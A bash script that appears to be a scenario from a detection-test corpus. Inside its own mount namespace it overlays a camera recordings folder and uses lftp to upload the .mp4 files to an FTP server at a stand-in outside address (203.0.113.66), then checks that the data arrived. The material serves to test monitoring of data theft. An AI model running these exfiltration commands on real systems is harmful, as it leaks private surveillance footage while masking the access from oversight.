#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=unshare,mount,lftp far=out ready=out:2121 seconds=38 parts=dns,camera-gate,recorder-gate,nas,outside-web
# In a mount namespace of its own a session lays an overlay over the folder of recordings, and lftp puts what is seen through it on an FTP server outside.
# shellcheck disable=SC2016 # other languages have variables of their own
if [ "$1" = out ]; then mkdir -p "$LAB/away"; exec timeout 60 /usr/bin/python3 -m pyftpdlib -i 203.0.113.66 -p 2121 -w -d "$LAB/away" 2>/dev/null; fi
sleep 16; mkdir -p "$LAB"/ov/{up,work,all}
LAB="$LAB" timeout 14 unshare -m sh -c 'mount -t tmpfs none "$LAB/ov" && mkdir "$LAB/ov/up" "$LAB/ov/work" "$LAB/ov/all" && mount -t overlay overlay -o "lowerdir=$LAB/recordings/gate,upperdir=$LAB/ov/up,workdir=$LAB/ov/work" "$LAB/ov/all" && cd "$LAB/ov/all" && lftp -c "open ftp://203.0.113.66:2121; mput 00[0-4].mp4"'
sleep 3; [ "$(du -sb "$LAB/away" | cut -f1)" -gt 400000 ]
